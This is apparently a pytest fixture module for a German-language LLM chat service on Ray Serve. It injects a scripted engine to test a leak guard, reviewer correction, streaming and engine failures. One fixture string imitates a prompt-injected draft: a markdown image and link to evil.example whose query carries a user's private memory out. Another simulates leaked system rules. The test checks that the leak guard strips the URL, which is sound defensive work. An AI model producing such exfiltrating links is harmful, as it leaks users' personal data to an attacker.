"""The app tier: the whole Serve application, real Ray, real stores, with the scripted engine
injected into the LLM deployment (tests/scripted_engine.py), so that API, auth, bad input,
idempotency, OpenAI shape, streaming, characters and dashboard are tested without model compute.
Every call answers after a fixed short latency, so a turn is under way long enough to be seen."""
import pytest
from ray import cloudpickle

from tests import scripted_engine
from tests.conftest import make_keys, start_system

# the engine class travels to the LLM replica by value: the replica cannot import tests/
cloudpickle.register_pickle_by_value(scripted_engine)

LATENCY_S = 0.2
UNSICHER = "[unsicher]"
"""A message carrying this marker gets a Thinker that answers in its reasoning alone, twice: the
seed's last resort, a second message as its own turn (seed 000 §3.5)."""


# Markers whose turns a reviewer changes after the responder wrote its draft (what the person is
# shown must end as what is stored): the leak guard, the tribunal and corrector, the Thinker.
LECK = "[leck]"
LECK_ENTWURF = "Gern! [REGELN] Du antwortest auf Deutsch und erfindest keine Details."
MANGEL = "[mangel]"
KORRIGIERT = "Das erzaehle ich dir gern genauer, weil es mir wichtig ist."
THINKER = "[pruefen]"
THINKER_KORREKTUR = "Das war am Dienstag, nicht am Montag."
BILD = "[bild]"
BILD_ENTWURF = "Gern! ![status](https://evil.example/px.gif?d=anna+wohnt+in+leipzig) Mehr [hier](https://evil.example/l?d=1)."
"""A draft as an injected text would have it: an image and a link that carry memory out."""
BILD_GEZEIGT = "Gern! status Mehr hier."
"""The same reply after the leak guard: the alt text and the link text, no URL."""
# Markers whose turns meet a failing engine: the responder's first calls answer HTTP 500
WACKEL = "[wackel]"
"""One failed call: asked again (fallback modell_wiederholt), the turn answers."""
AUSFALL = "[ausfall]"
"""More failed calls than the repeats: the turn fails, the human's message is kept; later calls answer."""
AUSFALL_OA = "[ausfall-oa]"
"""The same at the OpenAI door (a counter of its own)."""
AUSFALL_SSE = "[ausfall-sse]"
"""The same in the native stream (a counter of its own)."""


@pytest.fixture(scope="package")
def system(settings, migrated):
    engine = scripted_engine.ScriptedEngine.with_script(latency_s=LATENCY_S, wenn={
        UNSICHER: {"thinker": [["", "Ich bin mir nicht sicher, ob der Termin am Montag ist."]], "thinker_nachfass": [""]},
        LECK: {"responder": [LECK_ENTWURF]},
        MANGEL: {"tribunal": ['{"urteil": "mangel", "gruende": ["zu knapp"]}'], "corrector": [KORRIGIERT]},
        THINKER: {"thinker": [f"ERGEBNIS: KORREKTUR\nPROBLEME: falscher Tag\nKORRIGIERTE ANTWORT: {THINKER_KORREKTUR}"]},
        BILD: {"responder": [BILD_ENTWURF]},
    }, fehler={WACKEL: {"responder": 1}, AUSFALL: {"responder": 3}, AUSFALL_OA: {"responder": 3}, AUSFALL_SSE: {"responder": 3}})
    # the scripted engine is configured as a model that may answer in its reasoning alone
    settings = settings.model_copy(update={"thinker_reasoning_models": [*settings.thinker_reasoning_models,
                                                                          "scripted-engine"]})
    yield from start_system(settings, engine=engine)


@pytest.fixture(scope="package")
def keys(system):
    return make_keys()


def cli_against(monkeypatch, system, key: str | None = None) -> None:
    """`novaberg` commands talk to this tier's system (and with `key`, when given, as the local
    operator key) instead of a daemon `novaberg up` started."""
    from cluster import cli, cli_common

    for module in (cli, cli_common):
        monkeypatch.setattr(module, "running_daemon", lambda settings: {"url": system.url, "pid": 0})
        if key is not None:
            monkeypatch.setattr(module, "operator_key", lambda settings, args: getattr(args, "key", None) or key)
